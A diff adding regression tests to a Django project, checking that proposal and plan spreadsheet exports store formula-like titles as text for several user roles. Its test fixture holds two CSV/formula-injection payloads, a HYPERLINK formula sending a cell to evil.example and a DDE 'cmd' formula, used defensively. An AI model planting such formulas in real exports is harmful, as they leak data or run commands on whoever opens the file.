@@ -108,3 +108,38 @@ def test_a_plan_and_a_filtered_list_export_to_xlsx(client_for, people):
     listed = load_workbook(io.BytesIO(client.get(reverse("proposals:request-export"), {"category": category}).content))
     rows = list(listed.active.iter_rows(min_row=2, values_only=True))
     assert [r[3] for r in rows] == ["ฝายน้ำล้น"]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&B2,"ดู")', "=cmd|' /C calc'!A0"]
+
+
+def _titles_as_written(content: bytes, column: int, min_row: int) -> dict:
+    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
+    return {
+        row[column].value: row[column].data_type
+        for row in sheet.iter_rows(min_row=min_row)
+        if row[column].value in FORMULAS
+    }
+
+
+def test_a_planners_exports_write_formula_like_titles_as_text(client_for, people):
+    # issue 13 item 1: a title written as a live formula leaks the sheet when someone opens it
+    drafts = [make_request(people, title=title) for title in FORMULAS]
+    client = client_for(people.planner_a)
+    listed = client.get(reverse("proposals:request-export")).content
+    assert _titles_as_written(listed, 3, 2) == dict.fromkeys(FORMULAS, "s")
+    plan = client.get(reverse("proposals:plan-export", args=[drafts[0].plan_id])).content
+    assert _titles_as_written(plan, 2, 5) == dict.fromkeys(FORMULAS, "s")
+
+
+@pytest.mark.parametrize("who", ["central", "reviewer_x"])
+def test_the_central_team_and_reviewer_exports_write_formula_like_titles_as_text(client_for, people, who):
+    from tests.reviews.conftest import under_review
+
+    filed = [under_review(people, title=title) for title in FORMULAS]
+    client = client_for(getattr(people, who))
+    listed = client.get(reverse("proposals:request-export")).content
+    assert _titles_as_written(listed, 3, 2) == dict.fromkeys(FORMULAS, "s")
+    if who == "central":
+        plan = client.get(reverse("proposals:plan-export", args=[filed[0].plan_id])).content
+        assert _titles_as_written(plan, 2, 5) == dict.fromkeys(FORMULAS, "s")
